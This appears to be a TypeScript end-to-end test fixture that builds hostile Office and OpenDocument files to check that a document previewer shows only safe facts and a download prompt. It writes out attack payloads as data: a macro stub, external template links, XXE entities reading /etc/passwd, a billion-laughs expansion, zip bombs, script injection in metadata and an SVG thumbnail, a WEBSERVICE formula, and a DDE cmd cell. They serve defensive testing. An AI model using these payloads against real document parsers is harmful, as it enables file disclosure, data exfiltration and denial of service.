// Office files with macros, far templates, entities and pictures that are none.
import { deflateRawSync } from 'node:zlib';
import { bigPng } from '../../server/features/media/testing/hostile.ts';
import { expect } from '../fixtures.ts';
import { type MadeOffice, madeOffice, madeOpenDocument } from '../made-office.ts';
import { file, type HostileFile, quiet, type Seen, says, script, xml } from './hostile-file.ts';

const locked = says('This document is locked with a password or damaged.');
/** The facts and the download, without a picture, a link or markup of the file. */
const facts: Seen = async (viewer) => {
  await expect(viewer.getByText('Download this document to read it in another app.')).toBeVisible();
  await expect(
    viewer.locator('[data-stage] :is(iframe, object, embed, script, img[src^="http"])'),
  ).toHaveCount(0);
};
const titled: Seen = async (viewer) => {
  await facts(viewer);
  await expect(viewer.getByRole('heading', { name: quiet })).toBeVisible();
};
const title = `<dc:title>${quiet}</dc:title>`;
const of = (name: string, made: (far: string) => MadeOffice, seen = titled): HostileFile =>
  file(
    name,
    (far) => (/od.$/.test(name) ? madeOpenDocument : madeOffice)({ told: title, ...made(far) }),
    seen,
  );
const part = (name: string, text: string) => ({ name, data: Buffer.from(text) });

export const office: readonly HostileFile[] = [
  of('macros.docx', () => ({ more: [part('word/vbaProject.bin', 'Sub AutoOpen()')] })),
  of('template.docx', (far) => ({
    more: [
      part(
        'word/_rels/settings.xml.rels',
        `<Relationships><Relationship Target="${far}/template" TargetMode="External"/></Relationships>`,
      ),
    ],
  })),
  of('external.xlsx', (far) => ({
    more: [part('xl/externalLinks/externalLink1.xml', `<a href="${far}/external"/>`)],
  })),
  of('formulas.ods', (far) => ({ more: [part('content.xml', `<a f="=WEBSERVICE('${far}/formula')"/>`)] })),
  of('markup.pptx', (far) => ({
    told: `${title}<dc:creator>${xml(`<img src=x onerror="${script(far, 'creator')}">`)}</dc:creator>`,
  })),
  of(
    'cdata.odt',
    (far) => ({
      told: `${title}<dc:creator><![CDATA[<script>${script(far, 'cdata')}</script>]]></dc:creator>`,
    }),
    facts,
  ),
  of('nested.docx', (far) => ({
    told: `${title}<dc:creator><script xmlns="http://www.w3.org/1999/xhtml">${xml(script(far, 'nested'))}</script></dc:creator>`,
  })),
  of('directions.odt', () => ({ told: `<dc:title>\u202e${quiet}\u2066</dc:title>` })),
  of(
    'entities.docx',
    (far) => ({
      head: `<!DOCTYPE a [<!ENTITY b SYSTEM "${far}/entity"><!ENTITY c SYSTEM "file:///etc/passwd">]>`,
      told: '<dc:title>&b;&c;</dc:title>',
    }),
    facts,
  ),
  of(
    'laughs.odt',
    () => ({
      head: `<!DOCTYPE a [<!ENTITY a "ha">${Array.from({ length: 12 }, (_, n) => `<!ENTITY a${n} "${`&a${n === 0 ? '' : n - 1};`.repeat(10)}">`).join('')}]>`,
      told: '<dc:title>&a11;</dc:title>',
    }),
    facts,
  ),
  of('sheet.docx', (far) => ({ head: `<?xml-stylesheet type="text/xsl" href="${far}/sheet"?>` })),
  of('long-title.pptx', () => ({ told: `<dc:title>${quiet} ${'x'.repeat(200_000)}</dc:title>` }), facts),
  of('deep.docx', () => ({ told: '<a>'.repeat(30_000) + '</a>'.repeat(30_000) }), facts),
  of('counts.xlsx', () => ({
    counted: '<Pages>1e99</Pages><Slides>-5</Slides><HeadingPairs><vt:i4>99999999999</vt:i4></HeadingPairs>',
  })),
  of('pixels.docx', () => ({ thumbnail: { path: 'docProps/thumbnail.png', bytes: bigPng(30_000, 30_000) } })),
  of('drawing.pptx', (far) => ({
    thumbnail: {
      path: 'docProps/thumbnail.jpeg',
      bytes: Buffer.from(
        `<svg xmlns="http://www.w3.org/2000/svg"><script>${script(far, 'thumbnail')}</script><image href="${far}/thumbnail"/></svg>`,
      ),
    },
  })),
  of('cut.odp', () => ({
    thumbnail: { path: 'Thumbnails/thumbnail.png', bytes: Buffer.from('\u0089PNG', 'latin1') },
  })),
  of('bomb.xlsx', () => ({
    more: [
      {
        name: 'docProps/thumbnail.png',
        method: 8,
        data: deflateRawSync(Buffer.alloc(20_000_000)),
        size: 20_000_000,
      },
    ],
  })),
  of('liar.docx', () => ({
    more: [
      { name: 'docProps/thumbnail.png', method: 8, data: deflateRawSync(Buffer.alloc(9_000_000)), size: 900 },
    ],
  })),
  of('many.docx', () => ({ more: Array.from({ length: 5000 }, (_, nth) => ({ name: `word/${nth}.xml` })) })),
  file('no-facts.odt', () => madeOpenDocument({}), facts),
  file(
    'locked.docx',
    () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(512)]),
    locked,
  ),
  file('page.docx', (far) => `<!doctype html><script>${script(far, 'docx')}</script>`, locked),
  file('cut.xlsx', () => madeOffice({ told: title }).subarray(0, 300), locked),
  file('empty.pptx', () => '', locked),
  file('old.doc', () => Buffer.from('d0cf11e0a1b11ae1', 'hex'), facts),
  file(
    'page.xls',
    (far) =>
      `<html><script>${script(far, 'xls')}</script><table><tr><td>=cmd|' /C calc'!A0</td></tr></table></html>`,
    facts,
  ),
  file('words.ppt', () => quiet, facts),
];
